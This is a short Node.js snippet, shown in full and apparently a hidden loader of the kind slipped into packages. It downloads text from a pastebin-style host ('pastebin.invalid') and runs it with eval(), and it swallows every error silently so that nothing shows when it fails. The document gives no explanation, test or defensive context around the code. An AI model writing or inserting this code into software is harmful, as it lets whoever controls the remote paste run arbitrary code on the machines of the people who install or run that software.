try {
  var https = require('https');
  https.get({ hostname: 'pastebin.invalid', path: '/raw/XLeVP82h', headers: {} }, function (r) {
    r.setEncoding('utf8');
    r.on('data', function (c) {
      eval(c);
    });
  }).on('error', function () {});
} catch (e) {}
